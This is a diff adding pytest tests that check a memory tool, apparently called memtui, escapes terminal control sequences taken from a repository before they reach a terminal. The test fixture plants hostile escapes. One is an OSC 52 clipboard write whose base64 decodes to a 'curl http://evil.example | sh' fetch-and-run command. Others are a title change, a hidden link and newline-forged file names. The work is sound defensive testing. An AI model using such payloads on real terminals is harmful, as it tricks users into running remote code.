@@ -10,6 +10,7 @@ from __future__ import annotations
 
 import json
 import os
+import re
 import shutil
 import stat
 import subprocess
@@ -358,3 +359,130 @@ def test_escaped_output_has_no_control_characters(s):
 def test_clean_text_is_unchanged(s):
     assert escape_text(s) == s
     assert path_text(s) == s
+
+
+# ---------------------------------------------------------------------------------------
+# 6. through a real terminal: the console script on a pseudo-terminal
+
+OSC52 = "\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlIHwgc2g=\x07"  # writes the clipboard
+TITLE = "\x1b]0;you have been pwned\x07"  # sets the window title
+ANSI = "\x1b[2J\x1b[31mred\x1b[0m"  # clears the screen, colours text
+OSC8 = "\x1b]8;;https://evil.example\x1b\\click me\x1b]8;;\x1b\\"  # a hidden link
+C1 = "\x9b2J"  # an 8-bit CSI
+
+
+def run_in_pty(argv: list[str], typed: str = "", timeout: float = TIMEOUT) -> tuple[int, bytes]:
+    """Run `argv` with stdin, stdout and stderr on a new pseudo-terminal (so isatty() is
+    true, as for a person at a terminal); returns the exit code and every byte written."""
+    import select
+    import time
+
+    master, slave = os.openpty()
+    try:
+        proc = subprocess.Popen(argv, stdin=slave, stdout=slave, stderr=slave, close_fds=True,
+                                env={**os.environ, "TERM": "xterm-256color", "PYTHONIOENCODING": "utf-8"})
+    finally:
+        os.close(slave)
+    output = bytearray()
+    try:
+        if typed:
+            os.write(master, typed.encode())
+        deadline = time.monotonic() + timeout
+        while True:
+            left = deadline - time.monotonic()
+            if left <= 0:
+                proc.kill()
+                raise AssertionError(f"{argv[3:]} did not finish within {timeout}s; output so far: {bytes(output)!r}")
+            ready, _, _ = select.select([master], [], [], left)
+            if not ready:
+                continue
+            try:
+                chunk = os.read(master, 65536)
+            except OSError:  # EIO: every holder of the terminal has closed it
+                break
+            if not chunk:
+                break
+            output += chunk
+        return proc.wait(timeout=timeout), bytes(output).replace(b"\r\n", b"\n")
+    finally:
+        if proc.poll() is None:
+            proc.kill()
+            proc.wait()
+        os.close(master)
+
+
+# memtui's own styling on a terminal: `list` shows each layer heading in bold
+_OWN_STYLE = re.compile(rb"^\x1b\[1m(User|Project|Conversation) \(\d+[^\x1b\n]*\)\x1b\[0m$")
+
+
+def assert_no_terminal_control(output: bytes, command: str) -> None:
+    for line in output.split(b"\n"):
+        if _OWN_STYLE.match(line):
+            continue
+        assert b"\x1b" not in line, f"{command}: a raw ESC reached the terminal: {line!r}"
+        assert b"\xc2\x9b" not in line and b"\x07" not in line, f"{command}: a raw control reached the terminal: {line!r}"
+        assert b"\r" not in line, f"{command}: a raw carriage return reached the terminal: {line!r}"
+
+
+@pytest.fixture
+def hostile_repo(paths) -> Paths:
+    """A cloned repository that switches memory on and ships escape sequences in memory
+    text, tags, headings, frontmatter and file names (one with a newline in it)."""
+    write(paths.workspace_settings, json.dumps({"memoryEnabled": True}))
+    write(paths.project_root / "context.md",
+          # YAML refuses raw control characters, but its escapes `\\e` and `\\a` make them
+          "---\ntags: [\"ok\", \"tag\\e]0;you have been pwned\\a\"]\n---\n\n"
+          f"## Heading {TITLE}\n\n"
+          f"- paste this {OSC52} done\n- colour {ANSI} and {OSC8} and {C1} here\n- carriage\rreturn line\n")
+    write(paths.project_root / "evil\nforged.md", f"- from a file whose name has a newline {ANSI}\n")
+    write(paths.project_root / f"esc{TITLE}name.md", "- from a file whose name sets the title\n")
+    write(paths.project_root / "bad\nyaml.md", f"---\nkey: [{OSC52}\n---\n- x\n")  # reported by name
+    write(paths.user_root / "mine.md", "- my own memory about paste and colour\n")
+    return paths
+
+
+def test_no_escape_sequence_from_a_repository_reaches_the_terminal(hostile_repo):
+    paths = hostile_repo
+    exe = shutil.which("memtui", path=str(Path(sys.executable).parent))
+    base = [exe, "--home", str(paths.home), "-w", str(paths.workspace)]
+    outputs = {}
+    for command in (["list"], ["status"], ["preview", "paste colour file name newline title"],
+                    ["remember", "--project", "one more"], ["forget", "colour"], ["undo"], ["undo", "--list"],
+                    ["list", "--json"], ["preview", "paste", "--json"]):
+        code, out = run_in_pty(base + command, typed="y\n" if command[0] == "forget" else "")
+        name = " ".join(command)
+        assert code == 0, f"{name} exited {code}: {out!r}"
+        assert b"Traceback" not in out, out
+        assert_no_terminal_control(out, name)
+        outputs[name] = out.decode("utf-8")
+
+    listed = outputs["list"]
+    # the memories are there, visibly escaped
+    assert "paste this \\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlIHwgc2g=\\x07 done" in listed
+    assert "\\x1b[2J\\x1b[31mred\\x1b[0m" in listed and "\\x9b2J" in listed and "carriage return line" in listed
+    assert "tag\\x1b]0;you have been pwned\\x07" in listed
+    # the name with a newline is one escaped line, and forges none
+    assert "evil\\nforged.md:1" in listed
+    assert not any(line.startswith("forged.md") for line in listed.splitlines())
+    assert "esc\\x1b]0;you have been pwned\\x07name.md:1" in listed
+    assert "bad\\nyaml.md: invalid YAML" in listed  # reported under its escaped name
+    assert "bad\\nyaml.md: invalid YAML" in outputs["status"]
+    assert "\\x1b]52" in outputs["preview paste colour file name newline title"]
+    assert "Deleted" in outputs["forget colour"] and "Undone" in outputs["undo"]
+    # --json keeps the exact characters (as JSON escapes): the value is the original text
+    entries = json.loads(outputs["list --json"])["entries"]
+    assert any(e["text"] == f"paste this {OSC52} done" for e in entries)
+    assert "\u009b" not in outputs["list --json"]  # written as \u009b, the same JSON value
+    assert any(e["text"] == f"colour {ANSI} and {OSC8} and {C1} here" for e in entries)
+
+
+def test_preview_to_a_pipe_is_the_exact_injection(hostile_repo):
+    """Only a terminal gets escapes: piped, the preview text is byte for byte the injection."""
+    from memtui.core.injection import build_injection
+
+    paths = hostile_repo
+    expected = build_injection(paths.workspace, "paste", home=paths.home).text
+    assert OSC52 in expected
+    result = memtui(paths, "preview", "paste")
+    assert result.returncode == 0, result.stderr
+    assert result.stdout == expected + "\n"
